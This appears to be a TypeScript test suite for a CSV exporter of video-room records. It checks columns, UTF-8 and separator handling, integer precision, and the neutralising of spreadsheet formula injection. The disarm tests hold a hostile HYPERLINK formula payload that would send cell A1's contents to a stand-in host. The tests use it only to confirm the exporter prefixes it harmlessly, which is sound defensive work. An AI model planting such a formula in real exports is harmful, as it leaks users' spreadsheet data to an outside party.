import assert from 'node:assert/strict';
import fc from 'fast-check';
import { csvColumns, isAscii, spreadsheetCsv } from '../../../../src/export/list/csv.ts';
import { parseJson } from '../../../../src/insights/core/json.ts';
import { Room } from '../../../../src/insights/resources/room.ts';
import { resource } from '../../../fuzz/arbitrary.ts';
import { textOf } from './listText.ts';
import { parseCsv } from './parseCsv.ts';

const roomNames = Object.keys(new Room({}).fields);

/** The cells of one room by the names of their columns. */
function cells(json: Record<string, unknown>): Record<string, string> {
  const [head = [], row = []] = parseCsv(textOf([new Room(json)], 'csvStrict'));
  return Object.fromEntries(head.map((name, place) => [name, row[place] ?? '']));
}

describe('Rooms as CSV for programs', () => {
  it('have every documented field but links as a column, and the note behind them', () => {
    const documented = roomNames.filter((name) => name !== 'links');
    assert.deepEqual(csvColumns.toSorted(), [...documented, 'note'].toSorted());
    assert.equal(csvColumns.at(-1), 'note');
    assert.equal(new Set(csvColumns).size, csvColumns.length);
  });

  it('are UTF-8 with its mark, and lines that end as RFC 4180 says', () => {
    const text = textOf([new Room({ room_name: 'Ünïcode' })], 'csvStrict');
    assert.ok(text.startsWith('\uFEFFaccount_sid,room_sid,'));
    assert.equal(text.split('\r\n').length, 3);
    assert.ok(text.endsWith('\r\n'));
  });

  it('keep numbers numbers, and an int64 all of its digits', () => {
    const json = parseJson(
      '{"max_participants":50,"unique_participants":0,"duration_sec":"123456789012","total_participant_duration_sec":9007199254740993,"total_recording_duration_sec":1.0}',
    ) as Record<string, unknown>;
    const row = cells(json);
    assert.equal(row.max_participants, '50');
    assert.equal(row.unique_participants, '0');
    assert.equal(row.duration_sec, '123456789012');
    assert.equal(row.total_participant_duration_sec, '9007199254740993');
    assert.equal(row.total_recording_duration_sec, '1');
    assert.equal(row.note, '');
  });

  it('have times in ISO 8601 in UTC, codecs with a blank between, and nothing for null', () => {
    const row = cells({
      ...{ create_time: '2026-11-25T10:00:00+02:00', end_time: null, codecs: ['VP8', 'opus'] },
      ...{ recording_enabled: false, room_name: '' },
    });
    assert.equal(row.create_time, '2026-11-25T08:00:00.000Z');
    assert.equal(row.end_time, '');
    assert.equal(row.codecs, 'VP8 opus');
    assert.equal(row.recording_enabled, 'false');
  });

  it('name in a note what a row does not hold', () => {
    const row = cells({ duration_sec: -5, end_time: 'soon', audio_only: true, links: {} });
    assert.equal(row.note, 'not readable: end_time duration_sec; also sent: audio_only');
    assert.equal(row.duration_sec, '');
  });

  for (const start of ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠']) {
    it(`disarm text that begins with ${JSON.stringify(start)}`, () => {
      const hostile = `${start}HYPERLINK("http://x/?"&A1,"click")`;
      const row = cells({
        ...{ room_name: hostile, room_type: hostile, status_callback: hostile, codecs: [hostile] },
        [hostile]: 1,
      });
      for (const name of ['room_name', 'room_type', 'status_callback', 'codecs'])
        assert.equal(row[name], `'${hostile}`, name);
    });
  }

  it('hold any room in one row of as many cells, none of which a spreadsheet runs', () => {
    fc.assert(
      fc.property(fc.array(resource(roomNames), { maxLength: 4 }), (rows) => {
        const [head, ...read] = parseCsv(
          textOf(
            rows.map((json) => new Room(json)),
            'csvStrict',
          ),
        );
        assert.deepEqual(head, csvColumns);
        assert.equal(read.length, rows.length);
        for (const row of read) {
          assert.equal(row.length, csvColumns.length);
          for (const cell of row) assert.doesNotMatch(cell, /^[=+\-@\t\r\n]/);
        }
        const column = csvColumns.indexOf('room_name');
        rows.forEach((json, place) => {
          const name = json.room_name;
          if (typeof name !== 'string' || name.includes('\0') || !name.isWellFormed()) return;
          const written = read[place]?.[column];
          assert.ok(written === name || written === `'${name}`);
        });
      }),
      { numRuns: 300 },
    );
  });
});

describe('Rooms as CSV for spreadsheets', () => {
  const plain = new Room({
    room_name: '007',
    duration_sec: 60,
    total_recording_duration_sec: 1_234_567_890_123_456,
  });
  const accented = new Room({ room_name: 'Ünïcode' });

  for (const [separator, ascii, lead] of [
    [',', true, 'sep=,\r\n'],
    [';', true, 'sep=;\r\n'],
    [',', false, '\uFEFF'],
    [';', false, '\uFEFF'],
    ['\t', true, '\uFEFF'],
    ['\t', false, '\uFEFF'],
  ] as const)
    it(`begin with ${JSON.stringify(lead)} where ${JSON.stringify(separator)} separates ${ascii ? 'ASCII' : 'any text'}`, () => {
      const text = textOf([plain, accented], 'csv', spreadsheetCsv(separator, ascii));
      assert.ok(text.startsWith(`${lead}account_sid${separator}room_sid${separator}`));
      const [head = [], first = [], second = []] = parseCsv(text.slice(lead.length), separator);
      assert.deepEqual(head, csvColumns);
      assert.equal(first.length, csvColumns.length);
      const cell = (row: string[], name: string) => row[csvColumns.indexOf(name)];
      assert.equal(cell(first, 'room_name'), '="007"');
      assert.equal(cell(first, 'duration_sec'), '60');
      assert.equal(cell(first, 'total_recording_duration_sec'), '="1234567890123456"');
      assert.equal(cell(second, 'room_name'), 'Ünïcode');
    });

  it('are all ASCII only without a letter that the first line would cost', () => {
    const { row } = spreadsheetCsv(',', true);
    assert.deepEqual([isAscii(row(plain)), isAscii(row(accented))], [true, false]);
  });

  it('hold any room in one row of as many cells, none of which a spreadsheet runs', () => {
    fc.assert(
      fc.property(resource(roomNames), fc.constantFrom(',', ';', '\t'), (json, separator) => {
        const text = textOf([new Room(json)], 'csv', spreadsheetCsv(separator, false));
        const [, row = []] = parseCsv(text, separator);
        assert.equal(row.length, csvColumns.length);
        for (const cell of row)
          if (!/^="(?:[^"]|"")*"$/.test(cell)) assert.doesNotMatch(cell, /^[=+\-@\t\r\n]/);
      }),
      { numRuns: 300 },
    );
  });
});
